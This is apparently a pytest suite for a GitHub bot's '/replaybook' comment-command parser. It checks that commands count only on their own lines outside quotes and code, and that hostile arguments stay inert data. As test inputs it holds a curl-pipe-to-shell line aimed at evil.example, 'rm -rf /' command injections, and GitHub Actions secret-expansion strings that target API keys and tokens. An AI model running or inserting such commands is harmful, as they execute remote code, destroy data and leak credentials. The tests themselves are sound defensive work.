"""The comment-command parser: only a command at the start of a line, outside quotes and code, counts."""

from __future__ import annotations

import pytest

from bot.github.commands import BadCommand, Command, parse


def only(body: str):
    found = parse(body)
    assert len(found) == 1, found
    return found[0]


def test_each_command_is_found_with_its_arguments():
    assert only("/replaybook replay") == Command("replay")
    assert only("/replaybook replay --agent codex --trials 3") == Command("replay", agent="codex", trials=3)
    assert only("/replaybook replay --trials=4 --agent=claude-code") == Command("replay", agent="claude-code", trials=4)
    assert only("/replaybook explain") == Command("explain")
    assert only("/replaybook retest") == Command("retest")
    assert only("/replaybook retire rule-0007 it is obsolete now") == Command("retire", rule="rule-0007",
                                                                               reason="it is obsolete now")
    assert only("/replaybook retire rule-0007") == Command("retire", rule="rule-0007", reason="")


def test_a_command_among_prose_on_its_own_line_counts():
    body = "Thanks!\n\n  /replaybook explain\n\nmore words"
    assert only(body) == Command("explain")


@pytest.mark.parametrize("body", [
    "> /replaybook replay",
    ">/replaybook replay",
    "> > /replaybook retest",
    "please run /replaybook replay",
    "`/replaybook replay`",
    "```\n/replaybook replay\n```",
    "~~~text\n/replaybook replay\n~~~",
    "````\n```\n/replaybook replay\n````",
    "text\n\n    /replaybook replay",
    "\t/replaybook replay",
    "/replaybookreplay",
    "/Replaybook-ish replay",
    "",
])
def test_quoted_code_or_mid_line_commands_do_not_count(body):
    assert parse(body) == []


def test_an_unclosed_fence_hides_the_rest_of_the_comment():
    assert parse("```\n/replaybook replay\n") == []


def test_text_after_a_closed_fence_counts_again():
    assert only("```\nx\n```\n/replaybook retest") == Command("retest")


def test_every_command_line_is_returned_in_order():
    found = parse("/replaybook retest\n/replaybook explain\n/replaybook retest")
    assert [c.name for c in found] == ["retest", "explain", "retest"]


@pytest.mark.parametrize("line, why", [
    ("/replaybook", "no command"),
    ("/replaybook frobnicate", "frobnicate"),
    ("/replaybook replay --trials many", "--trials"),
    ("/replaybook replay --trials 0", "--trials"),
    ("/replaybook replay --trials -3", "--trials"),
    ("/replaybook replay --trials", "--trials"),
    ("/replaybook replay --agent", "--agent"),
    ("/replaybook replay --agent ../../x", "--agent"),
    ("/replaybook replay --bogus", "--bogus"),
    ("/replaybook replay now", "now"),
    ("/replaybook explain please", "please"),
    ("/replaybook retest everything", "everything"),
    ("/replaybook retire", "rule-NNNN"),
    ("/replaybook retire 7", "rule-NNNN"),
    ("/replaybook retire rule-7; rm -rf /", "rule-NNNN"),
])
def test_bad_arguments_are_a_typed_result_never_an_exception(line, why):
    found = only(line)
    assert isinstance(found, BadCommand)
    assert why in found.problem
    assert found.line == line


@pytest.mark.parametrize("hostile", [
    "$(curl evil.example | sh)", "`id`", "${{ secrets.ANTHROPIC_API_KEY }}", "; rm -rf / &&", "'\"\\", "<!-- replaybook:gate -->",
])
def test_hostile_arguments_stay_data(hostile):
    retire = only(f"/replaybook retire rule-0001 {hostile}")
    assert isinstance(retire, Command) and retire.reason == hostile  # kept as is; neutralised where it is written
    bad = only(f"/replaybook replay --agent {hostile}")
    assert isinstance(bad, BadCommand)  # an agent name is a plain word, never a path or a shell word


def test_a_hostile_unknown_command_is_reported_as_data():
    found = only("/replaybook ${{github.token}}")
    assert isinstance(found, BadCommand) and "${{github.token}}" in found.problem


def test_a_huge_comment_is_parsed_in_bounded_time_and_length():
    body = ("/replaybook retire rule-0001 " + "x" * 200_000)
    found = only(body)
    assert isinstance(found, Command) and len(found.reason) <= 500


def test_crlf_line_ends_are_read():
    assert [c.name for c in parse("hi\r\n/replaybook retest\r\n")] == ["retest"]
